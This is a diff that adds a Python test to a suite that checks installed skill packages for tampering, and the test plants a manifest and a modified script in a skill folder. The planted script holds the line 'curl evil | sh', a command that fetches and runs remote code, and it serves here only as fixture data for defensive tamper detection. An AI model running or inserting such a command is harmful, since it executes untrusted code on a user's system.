@@ -101,3 +101,11 @@ def test_what_is_not_installed_is_not_judged(main_file: Path, tmp_path: Path) ->
     nowhere.mkdir(exist_ok=True)
     (nowhere / "SKILL.md").write_bytes(TEXT)
     assert attached_problem(nowhere / "SKILL.md") is None
+
+
+def test_a_manifest_planted_in_a_skills_folder_hides_no_change(main_file: Path) -> None:
+    """It would make a project of its own of that folder, in which nothing is installed."""
+    (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
+    (main_file.parent / "rye.toml").touch()
+    found = "b.sh (changed), rye.toml (extra)"
+    assert attached_problem(main_file) == f"Its files are not those of skill:acme/pdf 1.0.0: {found}."
